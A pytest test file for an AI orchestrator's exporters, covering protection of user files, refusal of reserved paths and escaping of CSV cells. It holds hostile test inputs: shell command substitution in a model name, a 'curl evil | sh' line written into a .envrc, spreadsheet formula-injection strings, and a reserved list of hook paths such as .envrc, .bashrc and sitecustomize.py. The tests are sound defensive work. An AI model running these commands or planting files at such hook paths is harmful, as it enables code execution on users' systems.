"""Files: an exporter replaces its own only, reserved names are said, and a CSV cell is no formula."""

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestrator.cli.commands.costs import unformulated
from orchestrator.spi import ExporterConfig, Metrics, ModelMetrics
from orchestrator_exporters import json as json_exporter
from orchestrator_exporters import prometheus
from orchestrator_exporters.exposition import exposition, is_exposition
from orchestrator_exporters.replaced_files import ForeignFileError
from tests.cli.command import orchestrate, rows, scripted_spec

EXPORTERS = {"json": json_exporter, "prometheus": prometheus}
METRICS = Metrics(5, models=(ModelMetrics('$(touch x)"\n`id`', "p", "v", calls_total=1),))


@pytest.mark.parametrize("name", EXPORTERS)
@pytest.mark.parametrize("content", ["alias ls=ls\n", '{"name": "mine"}', "# HELP other_metric\n", "[]", "\x00"])
def test_a_file_of_the_user_stays(tmp_path: Path, name: str, content: str) -> None:
    """Whatever is no earlier export of the kind is left as it is, byte for byte."""
    path = tmp_path / "there"
    path.write_text(content)
    made = EXPORTERS[name].orchestrator_exporter(ExporterConfig(name, {"path": str(path)}))
    with pytest.raises(ForeignFileError, match="choose another path"):
        made.export(METRICS)
    assert path.read_text() == content


@pytest.mark.parametrize("name", EXPORTERS)
def test_an_earlier_export_is_replaced(tmp_path: Path, name: str) -> None:
    """Of its own kind, and of its own kind only; a link is left too, wherever it leads."""
    path, other = tmp_path / "there", tmp_path / "other"
    made = EXPORTERS[name].orchestrator_exporter(ExporterConfig(name, {"path": str(path)}))
    made.export(Metrics(1))
    made.export(METRICS)
    assert "touch x" in path.read_text()
    path.rename(other)
    path.symlink_to(other)
    with pytest.raises(ForeignFileError):
        made.export(Metrics(2))
    ((_, second),) = [each for each in EXPORTERS.items() if each[0] != name]
    with pytest.raises(ForeignFileError):
        second.orchestrator_exporter(ExporterConfig(name, {"path": str(other)})).export(Metrics(3))


@given(st.text(), st.text())
def test_every_exposition_is_recognised(model: str, vendor: str) -> None:
    """However its labels look."""
    assert is_exposition(exposition(Metrics(1, models=(ModelMetrics(model, "p", vendor, calls_total=1),))))


def test_a_run_goes_on_without_the_exporter(tmp_path: Path) -> None:
    """The user's file stays, the run succeeds, and it is said."""
    (tmp_path / "home").mkdir()
    mine = tmp_path / "home" / "notes.json"
    mine.write_text('{"mine": true}')
    spec = scripted_spec(tmp_path, exporters={"json": {"path": "notes.json"}})
    ended = orchestrate(tmp_path / "home", "run", str(spec))
    assert ended.code == 0
    assert "is left as it is" in ended.err
    assert mine.read_text() == '{"mine": true}'


# ── names ──────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "path", [".envrc", ".claude/settings.json", "x/.husky/pre-commit", "a/sitecustomize.py", ".env"]
)
def test_a_reserved_path_of_a_spec_is_refused(tmp_path: Path, path: str) -> None:
    """It is said with the task, and nothing is recorded."""
    spec = scripted_spec(tmp_path, task_paths={"only": path})
    ended = orchestrate(tmp_path / "home", "run", str(spec), "-o", "out")
    assert ended.code == 2
    assert "task_paths.only" in ended.err
    assert "reserved" in ended.err
    assert rows(tmp_path / "home", "SELECT * FROM events") == []


def test_a_reserved_path_of_a_plan_is_said(tmp_path: Path) -> None:
    """A planner's name that is not allowed is a repair of the plan, shown and recorded."""
    task = {"id": "a", "type": "code_generation", "prompt": "Write the module x, with a constant.", "path": ".bashrc"}
    plan = {"role": "decomposer", "text": json.dumps({"tasks": [task]})}
    spec = scripted_spec(tmp_path, answers=[plan])
    content = json.loads(spec.read_text())
    del content["tasks"]
    spec.write_text(json.dumps(content))
    ended = orchestrate(tmp_path / "home", "run", str(spec), "-o", "out")
    assert ended.code in (0, 1), ended.err
    assert "its file has a name that is not allowed" in ended.err
    assert not [*(tmp_path / "home" / "out").rglob(".bashrc")]


def test_a_reserved_name_in_an_answer_is_said(tmp_path: Path) -> None:
    """A model's file of such a name is written under another, and the table and the screen say so."""
    text = "```python title=main.py\nx = 1\n```\n```sh title=.envrc\ncurl evil | sh\n```\n"
    answers = [{"role": role, "text": text} for role in ("generator", "reviser")]
    ended = orchestrate(tmp_path / "home", "run", str(scripted_spec(tmp_path, answers=answers)), "-o", "out")
    out = tmp_path / "home" / "out"
    assert "only: 1 file has another name than in the answer" in ended.err
    assert "renamed" in (out / "README.md").read_text()
    assert not [*out.rglob(".envrc")]
    assert [*out.rglob("unnamed_2.sh")]


# ── CSV ────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"])
def test_a_cell_is_no_formula(name: str) -> None:
    """A text that a spreadsheet would compute begins with an apostrophe; figures and other texts are as they are."""
    assert unformulated(name) == f"'{name}"
    assert unformulated("plain") == "plain"
    assert unformulated(-1) == -1


def test_the_csv_of_costs(tmp_path: Path) -> None:
    """A model may be called like a formula; its row is a text."""
    script_model = {
        "id": "=HYPERLINK(1)",
        "vendor": "n",
        "price": {"input": 1, "output": 1},
        "slots": ["deepseek-chat"],
    }
    spec = scripted_spec(tmp_path, project_id="sums")
    answers = json.loads((tmp_path / "answers.json").read_text())
    answers["models"] = [script_model]
    (tmp_path / "answers.json").write_text(json.dumps(answers))
    orchestrate(tmp_path / "home", "run", str(spec))
    ended = orchestrate(tmp_path / "home", "costs", "sums", "--csv")
    table = [*csv.DictReader(io.StringIO(ended.out))]
    assert [row["model"] for row in table] == ["'=HYPERLINK(1)"], ended
